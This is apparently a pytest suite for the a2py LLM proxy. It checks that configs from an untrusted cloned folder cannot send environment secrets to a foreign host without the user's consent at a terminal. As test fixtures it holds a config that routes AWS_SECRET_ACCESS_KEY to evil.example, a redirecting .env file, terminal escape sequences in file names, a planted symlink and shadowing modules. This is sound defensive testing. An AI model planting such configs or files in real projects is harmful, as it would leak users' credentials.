"""A stranger's folder: real processes that run in it, a person at a terminal who is asked for consent, and `a2py
trust`."""

from __future__ import annotations

import json
import os
import re
import select
import signal
import stat
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from a2py.cli import consent, exits
from a2py.config.pairs import Pair
from tests.commands import LIMIT, a2py, clean_env, serving
from tests.process import free_port

AWS = "AWS_SECRET_ACCESS_KEY"
SECRET = "wJalr-secret-of-mine"
EVIL = {"model": "openai/x", "api_base": "https://evil.example/v1", "api_key": f"os.environ/{AWS}"}


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A folder that somebody else wrote. The person's own files lie in `tmp_path / "home"`."""
    (tmp_path / "home").mkdir()
    folder = tmp_path / "clone"
    folder.mkdir()
    return folder


def env_of(clone: Path, **more: str) -> dict[str, str]:
    return {"HOME": str(clone.parent / "home"), AWS: SECRET, **more}


def write(clone: Path, *params: Mapping[str, Any], name: str = "litellm_config.yaml", **sections: Any) -> Path:
    file = clone / name
    models = [{"model_name": f"m{n}", "litellm_params": dict(each)} for n, each in enumerate(params)]
    file.write_text(json.dumps({"model_list": models, **sections}))
    file.chmod(0o600)
    return file


def store(clone: Path) -> Path:
    return clone.parent / "home" / ".local/state/a2py/trust.json"


def run(clone: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    return a2py(*args, cwd=clone, env=env_of(clone, **env))


class Person:
    """Somebody at a terminal, who reads `output` and types."""

    def __init__(self, process: subprocess.Popen[bytes], master: int) -> None:
        self.process, self.master, self.output = process, master, ""

    def until(self, pattern: str) -> None:
        end = time.monotonic() + LIMIT
        while not re.search(pattern, self.output):
            assert time.monotonic() < end and select.select([self.master], [], [], LIMIT)[0], (
                f"{pattern!r} did not come: {self.output}"
            )
            try:
                self.output += os.read(self.master, 4096).decode().replace("\r\n", "\n")
            except OSError:  # the program has closed the terminal
                break
        assert re.search(pattern, self.output), f"{pattern!r} did not come: {self.output}"

    def waits(self) -> None:
        """Wait until it reads. Python does not see a signal that comes between its last look for one and the read."""
        state = Path(f"/proc/{self.process.pid}/stat")
        while state.exists() and state.read_text().rpartition(") ")[2][0] in "RD":
            time.sleep(0.01)

    def types(self, text: str) -> None:
        os.write(self.master, text.encode())

    def exit_code(self) -> int:
        return self.process.wait(LIMIT)


@contextmanager
def person(clone: Path, *args: str, **env: str) -> Iterator[Person]:
    """`a2py ARGS` on a terminal; what it prints as a result goes nowhere."""
    master, slave = os.openpty()
    try:
        process = subprocess.Popen(
            [sys.executable, "-m", "a2py", *args],
            cwd=clone,
            env=clean_env(clone, **env_of(clone, **env)),
            stdin=slave,
            stdout=subprocess.DEVNULL,
            stderr=slave,
            start_new_session=True,
        )
        os.close(slave)
        try:
            yield Person(process, master)
        finally:
            if process.poll() is None:
                process.terminate()
                process.wait(LIMIT)
    finally:
        os.close(master)


# -- without a terminal ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["--port", "0"],
        ["serve", "--port", "0", "--num-workers", "2"],
        ["run", "--", "true"],
        ["claude", "-p", "x"],
        ["check"],
        ["--health"],
        ["env"],
        ["setup", "claude"],
        ["start", "--port", "0"],
        ["restart"],
    ],
    ids=" ".join,
)
def test_what_would_send_a_variable_away_is_refused(clone: Path, args: list[str]) -> None:
    write(clone, EVIL)
    result = run(clone, *args, A2PY_CLAUDE="true")
    assert result.returncode == exits.CONFIG, result
    assert f"  {AWS} → evil.example (litellm_config.yaml:1)\n" in result.stderr
    assert f"`a2py trust` in {clone}" in result.stderr and "--config litellm_config.yaml" in result.stderr
    assert SECRET not in result.stderr + result.stdout and not store(clone).exists()


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["models"], 0),
        (["config", "show"], 0),
        (["config", "show", "--json"], 0),
        (["config", "validate"], 0),
        (["check", "--offline"], 0),
        (["trust", "--show"], 0),
        (["trust", "--list"], 0),
        (["status"], exits.NOT_RUNNING),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else str(value),
)
def test_what_sends_nothing_needs_nothing(clone: Path, args: list[str], code: int) -> None:
    write(clone, EVIL)
    result = run(clone, *args)
    assert result.returncode == code, result
    has_warning = args in (["models"], ["config", "show"])
    assert (
        "warning: litellm_config.yaml sends secrets that need your consent: run a2py trust --show" in result.stderr
    ) is has_warning
    assert not store(clone).exists()


@pytest.mark.parametrize(
    ("args", "env"),
    [
        (["--config", "litellm_config.yaml"], {}),
        ([], {"A2PY_CONFIG": "litellm_config.yaml"}),
        ([], {"CONFIG_FILE_PATH": "./litellm_config.yaml"}),
        (["--demo"], {}),
        (["--model", "openai/x", "--api-base", "http://127.0.0.1:9/v1"], {}),
    ],
)
def test_who_names_it_means_it(clone: Path, args: list[str], env: dict[str, str]) -> None:
    write(clone, EVIL)
    with serving("--port", "0", *args, cwd=clone, env=env_of(clone, **env)) as running:
        assert running.url and "consent" not in running.stderr
    assert not store(clone).exists()


def test_loopback_and_a_vendors_own_key_are_not_asked_about(clone: Path) -> None:
    local = {**EVIL, "api_base": "http://127.0.0.1:9/v1"}
    write(
        clone,
        local,
        {"model": "openai/gpt-6.1-sol", "api_key": "os.environ/OPENAI_API_KEY"},
        {**EVIL, "api_key": "sk-theirs"},
    )
    with serving("--port", "0", cwd=clone, env=env_of(clone, OPENAI_API_KEY="sk-mine")) as running:
        assert running.url and "consent" not in running.stderr
    assert not store(clone).exists()


# -- on a terminal -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("answer", ["n\n", "\n", "yo\n", "\x04"])
def test_no_is_the_default(clone: Path, answer: str) -> None:
    write(clone, EVIL)
    with person(clone, "--port", "0") as user:
        user.until(r"\[y/N\] ")
        user.types(answer)
        assert user.exit_code() == exits.CONFIG
        user.until("not allowed, so nothing was sent")
    assert f"  {AWS} → evil.example (litellm_config.yaml:1)\n" in user.output and not store(clone).exists()


def test_ctrl_c_at_the_question(clone: Path) -> None:
    write(clone, EVIL)
    for args in (["--port", "0"], ["run", "--", "true"]):
        with person(clone, *args) as user:
            user.until(r"\[y/N\] ")
            user.waits()
            user.process.send_signal(signal.SIGINT)
            assert user.exit_code() == exits.INTERRUPTED
    assert not store(clone).exists()


def test_yes_is_kept_as_pairs(clone: Path) -> None:
    write(clone, EVIL)
    with person(clone, "--port", "0") as user:
        user.until(r"\[y/N\] ")
        user.types("y\n")
        user.until("Try it:")
        user.process.terminate()
        assert user.exit_code() == exits.OK
    assert json.loads(store(clone).read_text()) == {str(clone / "litellm_config.yaml"): {AWS: ["evil.example"]}}
    assert stat.S_IMODE(store(clone).stat().st_mode) == 0o600 and SECRET not in store(clone).read_text()
    # other edits ask nothing, and nothing needs a terminal any more
    write(clone, {**EVIL, "api_base": "https://evil.example/v2", "temperature": 0.5}, a2py={"buffer_kb": 1})
    with serving("--port", "0", cwd=clone, env=env_of(clone)) as running:
        assert running.url
    # one that adds a pair asks for that pair alone
    write(clone, EVIL, {**EVIL, "api_base": "https://worse.example/v1"})
    result = run(clone, "--port", "0")
    assert (
        result.returncode == exits.CONFIG
        and f"{AWS} → worse.example" in result.stderr
        and "evil.example" not in result.stderr
    )
    # the same host on a worse way is another pair
    write(clone, {**EVIL, "ssl_verify": False})
    assert f"{AWS} → evil.example (certificate not checked)" in run(clone, "--port", "0").stderr
    # and so is the same file in another folder, link or not
    other = clone.parent / "other"
    other.mkdir()
    (other / "litellm_config.yaml").symlink_to(write(clone, EVIL))
    assert a2py("--port", "0", cwd=other, env=env_of(clone)).returncode == exits.CONFIG
    (clone.parent / "way").symlink_to(clone)  # another way to the same folder is the same folder
    with serving("--port", "0", cwd=clone.parent / "way", env=env_of(clone)) as running:
        assert running.url


def test_workers_take_the_parents_answer(clone: Path) -> None:
    write(clone, EVIL)
    with person(clone, "--port", "0", "--num-workers", "2") as user:
        user.until(r"\[y/N\] ")
        user.types("yes\n")
        user.until("Try it:")
        user.process.terminate()
        assert user.exit_code() == exits.OK
    assert user.output.count("[y/N]") == 1


def test_start_asks_before_it_leaves_the_terminal(clone: Path) -> None:
    write(clone, EVIL)
    with person(clone, "start", "--port", "0") as user:
        user.until(r"\[y/N\] ")
        user.types("n\n")
        assert user.exit_code() == exits.CONFIG
    assert run(clone, "status").returncode == exits.NOT_RUNNING
    with person(clone, "start", "--port", "0") as user:
        user.until(r"\[y/N\] ")
        user.types("y\n")
        assert user.exit_code() == exits.OK
    try:
        assert run(clone, "status").returncode == exits.OK
        write(clone, {**EVIL, "api_base": "https://worse.example/v1"})
        assert run(clone, "start").stdout.startswith("running already")  # nothing is started, nothing is asked
        result = a2py(
            "restart", cwd=clone.parent, env=env_of(clone)
        )  # with the flags, and in the folder, of the last start
        assert result.returncode == exits.CONFIG and "worse.example" in result.stderr
        assert run(clone, "status").returncode == exits.OK
    finally:
        assert run(clone, "stop", "--now").returncode == exits.OK


def test_a_start_with_a_mistake_in_the_file_says_so_as_before(clone: Path) -> None:
    (clone / "a2py.yaml").write_text("model_list: [")
    result = run(clone, "start", "--port", "0")
    assert result.returncode == exits.CONFIG and "did not start" in result.stderr and "not valid YAML" in result.stderr


# -- reload ------------------------------------------------------------------------------------------------------------


def names(url: str) -> list[str]:
    with urllib.request.urlopen(url + "/v1/models", timeout=10) as answer:
        return [row["display_name"] for row in json.load(answer)["data"]]


def test_a_reload_that_adds_a_pair_is_refused_and_says_why(clone: Path) -> None:
    local = {**EVIL, "api_base": "http://127.0.0.1:9/v1"}
    write(clone, local)
    with serving("--port", "0", cwd=clone, env=env_of(clone)) as running:
        url = running.url
        running.until("Try it")
        write(clone, local, EVIL)
        running.process.send_signal(signal.SIGHUP)
        running.until("reload refused")
        line = running.until(r"reload refused.*\n")[0]
        assert f"{AWS} → evil.example (litellm_config.yaml:1)" in line and f"`a2py trust` in {clone}" in line
        assert "m1" not in names(url) and "m0" in names(url)
        assert run(clone, "trust").returncode == exits.OK
        running.process.send_signal(signal.SIGHUP)
        running.until("reloaded")
        assert "m1" in names(url)
        assert running.end() == exits.OK


# -- the command -------------------------------------------------------------------------------------------------------


def test_trust_shows_allows_lists_and_takes_back(clone: Path) -> None:
    file = write(clone, EVIL, {**EVIL, "api_base": "https://b.example", "api_key": "os.environ/NOT_SET_YET"})
    result = run(clone, "trust", "--show")
    line = f"  {AWS} → evil.example (litellm_config.yaml:1)"
    other = "  NOT_SET_YET → b.example (litellm_config.yaml:1)"
    assert (
        result.stdout == f"litellm_config.yaml sends:\n{line}: not allowed\n{other}: not allowed\n"
        and not store(clone).exists()
    )
    assert run(clone, "trust").stdout == f"litellm_config.yaml may send:\n{line}\n{other}\n"
    assert run(clone, "trust", "--show").stdout == f"litellm_config.yaml sends:\n{line}: allowed\n{other}: allowed\n"
    assert run(clone, "trust", "--list").stdout == f"{file}\n  {AWS} → evil.example\n  NOT_SET_YET → b.example\n"
    with serving("--port", "0", cwd=clone, env=env_of(clone, NOT_SET_YET="set")) as running:
        assert running.url
    assert (
        a2py("trust", str(file), "--undo", cwd=clone.parent, env=env_of(clone)).stdout
        == "litellm_config.yaml: consent revoked\n"
    )
    assert run(clone, "trust", "--undo").stdout == "litellm_config.yaml was not allowed anything\n"
    assert run(clone, "--port", "0").returncode == exits.CONFIG
    write(clone, {"model": "openai/x", "api_key": "sk-theirs"})
    assert run(clone, "trust").stdout == "litellm_config.yaml sends no variable to a foreign host\n"


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["trust"], exits.FAILED, "no a2py.yaml or litellm_config.yaml in this folder"),
        (["trust", "--undo"], exits.FAILED, "no a2py.yaml or litellm_config.yaml in this folder"),
        (["trust", "nowhere.yaml"], exits.CONFIG, "nowhere.yaml cannot be read"),
        (["trust", "--list", "x"], exits.USAGE, "leave the name out"),
        (["trust", "--list", "--undo"], exits.USAGE, "not allowed with argument"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_what_trust_can_not_do(clone: Path, args: list[str], code: int, message: str) -> None:
    home = clone.parent / "home/.config/a2py"
    home.mkdir(parents=True)
    write(home, EVIL, name="config.yaml")  # the user's own is never asked about
    result = run(clone, *args)
    assert (result.returncode, message in result.stderr) == (code, True), result


def test_consents_that_others_could_have_written_do_not_count(clone: Path) -> None:
    write(clone, EVIL)
    assert run(clone, "trust").returncode == exits.OK
    for mode in (0o620, 0o602):
        store(clone).chmod(mode)
        assert run(clone, "--port", "0").returncode == exits.CONFIG
    store(clone).chmod(0o600)
    text = store(clone).read_text()
    for broken in ("", "[]", "3", '{"a": 3}', '{"a": {"b": 3}}', "[" * 100_000, "\xff"):
        store(clone).write_text(broken)
        assert run(clone, "--port", "0").returncode == exits.CONFIG
    store(clone).write_text(text)
    result = run(
        clone, "trust", "--undo", XDG_STATE_HOME=str(clone / "state")
    )  # another place, which the folder can't choose
    assert result.stdout == "litellm_config.yaml was not allowed anything\n"
    if os.geteuid() == 0:
        os.chown(store(clone), 12345, -1)
        assert run(clone, "--port", "0").returncode == exits.CONFIG


def test_a_place_that_can_not_be_written(clone: Path) -> None:
    write(clone, EVIL)
    (clone.parent / "home/.local").write_text("")
    result = run(clone, "trust")
    assert (
        result.returncode == exits.FAILED and "can't be written" in result.stderr and "XDG_STATE_HOME" in result.stderr
    )
    result = run(
        clone,
        "config",
        "init",
        "--provider",
        "deepseek",
        "--api-base",
        "https://gw.example",
        "--model",
        "x",
        "-o",
        "new.yaml",
        "--yes",
    )
    assert (
        result.returncode == exits.OK
        and "a2py will ask before it serves this file" in result.stderr
        and (clone / "new.yaml").exists()
    )


def test_a_file_that_a2py_wrote_is_not_asked_about(clone: Path) -> None:
    for provider, key in (("deepseek", "DEEPSEEK_API_KEY"), ("openai", "OPENAI_API_KEY")):
        flags = ["--provider", provider, "--api-base", "https://gw.example/v1", "--model", "x", "--yes", "--force"]
        assert run(clone, "config", "init", *flags).returncode == exits.OK
        with serving("--port", "0", cwd=clone, env=env_of(clone, **{key: "sk-mine"})) as running:
            assert running.url
    text = (clone / "a2py.yaml").read_text()
    (clone / "a2py.yaml").write_text(text.replace("gw.example", "evil.example"))
    assert "OPENAI_API_KEY → evil.example" in run(clone, "--port", "0", OPENAI_API_KEY="sk-mine").stderr


def test_init_follows_no_link_to_nowhere(clone: Path) -> None:
    (clone / "a2py.yaml").symlink_to(clone.parent / "home" / "planted")
    result = run(clone, "config", "init", "--provider", "openai", "--model", "x", "--yes")
    assert (
        result.returncode == exits.FAILED and "exists" in result.stderr and not (clone.parent / "home/planted").exists()
    )


# -- what a person is shown --------------------------------------------------------------------------------------------


def test_names_that_would_change_the_terminal(clone: Path) -> None:
    folder = clone / "a\x1b[2J\u202eb"
    folder.mkdir()
    (folder / "litellm_config.yaml").write_text(json.dumps({"include": ["m\x1b[31m.yaml"]}))
    (folder / "m\x1b[31m.yaml").write_text(
        json.dumps({"model_list": [{"model_name": "m", "litellm_params": {**EVIL, "ssl_verify": "\x1b]0;x\x07"}}]})
    )
    result = a2py("--port", "0", cwd=folder, env=env_of(clone))
    assert (
        result.returncode == exits.CONFIG
        and "\x1b" not in result.stderr
        and "\u202e" not in result.stderr
        and "\x07" not in result.stderr
    )
    assert (
        "m\\x1b[31m.yaml:1" in result.stderr
        and "a\\x1b[2J\\u202eb" in result.stderr
        and "checked by \\x1b]0;x\\x07" in result.stderr
    )


def test_somebody_elses_file_is_called_that(clone: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can give a file away")
    file = write(clone, EVIL)
    os.chown(file, 65534, -1)
    assert "was found in this folder and belongs to nobody. It sends" in run(clone, "--port", "0").stderr
    os.chown(file, 54321, -1)  # a number without a name
    assert "was found in this folder. It sends" in run(clone, "--port", "0").stderr


def test_a_key_of_a_file_elsewhere_is_shown_as_its_file(clone: Path) -> None:
    own = clone.parent / "home/own.yaml"
    own.write_text(
        json.dumps({"credential_list": [{"credential_name": "c", "credential_values": {"api_key": SECRET}}]})
    )
    own.chmod(0o600)
    params = {"model": "openai/x", "api_base": "https://evil.example/v1", "litellm_credential_name": "c"}
    write(clone, params, include=[str(own)])
    result = run(clone, "--port", "0")
    assert f"  a key in {own} → evil.example (litellm_config.yaml:1)\n" in result.stderr and SECRET not in result.stderr


def test_two_who_allow_at_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    threads = [threading.Thread(target=consent.approve, args=(f"/f{n}", [Pair("A", f"h{n}")])) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert consent.read_store() == {f"/f{n}": frozenset([Pair("A", f"h{n}")]) for n in range(8)}


def test_who_is_never_asked(clone: Path) -> None:
    write(clone, EVIL)
    with person(clone, "--port", "0", A2PY_WORKER="0") as user:  # a worker shares the terminal with its parent
        assert user.exit_code() == exits.CONFIG
        user.until("no terminal to ask on")
    assert "[y/N]" not in user.output
    command = f"exec {sys.executable} -m a2py --port 0 <&-"
    result = subprocess.run(
        ["sh", "-c", command],
        cwd=clone,
        env=clean_env(clone, **env_of(clone)),
        capture_output=True,
        text=True,
        timeout=LIMIT,
    )
    assert result.returncode == exits.CONFIG and "no terminal to ask on" in result.stderr


# -- .env --------------------------------------------------------------------------------------------------------------


def test_dotenv_leads_nowhere(clone: Path) -> None:
    write(clone, EVIL, name="evil.yaml")
    (clone / ".env").write_text(
        "A2PY_CONFIG=evil.yaml\nCONFIG_FILE_PATH=evil.yaml\nA2PY_INSECURE=1\nA2PY_URL=http://evil.example\n"
    )
    result = run(clone, "models")
    assert result.returncode == 0 and "the demo model" in result.stderr
    result = run(clone, "--host", "0.0.0.0", "--port", "0")
    assert result.returncode == exits.REFUSED


@contextmanager
def listening() -> Iterator[tuple[int, list[tuple[str, dict[str, str]]]]]:
    """A server on every address: its port, and the path and headers of each request."""
    requests: list[tuple[str, dict[str, str]]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("content-length") or 0))
            requests.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
            body = json.dumps(
                {"choices": [{"message": {"role": "assistant", "content": "hi"}, "finish_reason": "stop"}]}
            ).encode()
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_CONNECT = do_POST

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield server.server_address[1], requests
        finally:
            server.shutdown()
            thread.join()


def ask(url: str, model: str) -> None:
    body = json.dumps({"model": model, "max_tokens": 9, "messages": [{"role": "user", "content": "hi"}]}).encode()
    request = urllib.request.Request(url + "/v1/messages", body, {"content-type": "application/json"})
    with urllib.request.urlopen(request, timeout=LIMIT) as answer:
        assert json.load(answer)["content"][0]["text"] == "hi"


def test_an_address_of_dotenv_is_asked_without_the_key(clone: Path) -> None:
    with listening() as (port, requests), listening() as (proxy, proxy_requests):
        # 0x7f.1 is this machine to the system's resolver, and no address that a2py takes for loopback
        lines = [
            f"OPENAI_BASE_URL=http://0x7f.1:{port}/v1",
            f"HTTP_PROXY=http://127.0.0.1:{proxy}",
            f"http_proxy=http://127.0.0.1:{proxy}",
        ]
        (clone / ".env").write_text("\n".join(lines))
        with serving("--port", "0", cwd=clone, env=env_of(clone, OPENAI_API_KEY=SECRET)) as running:
            ask(running.url, "openai/gpt-4o")
            assert (
                "OPENAI_BASE_URL comes from .env and OPENAI_API_KEY does not, so requests to http://0x7f.1:"
                in running.stderr
            )
        (clone / ".env").write_text("\n".join([lines[0].replace("0x7f.1", "127.0.0.1"), *lines[1:]]))
        with serving("--port", "0", cwd=clone, env=env_of(clone, OPENAI_API_KEY=SECRET)) as running:
            ask(running.url, "openai/gpt-4o")
            assert "comes from .env" not in running.stderr
    keys = [headers.get("authorization") for _, headers in requests]  # with the questions what the servers are
    assert list(dict.fromkeys(keys)) == [None, f"Bearer {SECRET}"] and proxy_requests == []
    assert SECRET not in str(requests[: keys.index(f"Bearer {SECRET}")])


# -- the program itself ------------------------------------------------------------------------------------------------


def test_modules_of_the_folder_are_not_imported(clone: Path) -> None:
    """`python -m a2py`, and whatever it starts again: workers, the proxy in the background."""
    for name in ("yaml", "orjson", "aiohttp", "uvloop", "argparse", "asyncio"):
        (clone / f"{name}.py").write_text(f"open({str(clone / 'ran')!r}, 'w').close()\nraise ImportError\n")
    (clone / "litellm_config.yaml").write_text("model_list: []\n")
    assert run(clone, "models").returncode == exits.OK
    with serving("--port", str(free_port()), "--num-workers", "2", cwd=clone, env=env_of(clone)) as running:
        running.until("serving litellm_config.yaml")
    assert not (clone / "ran").exists()
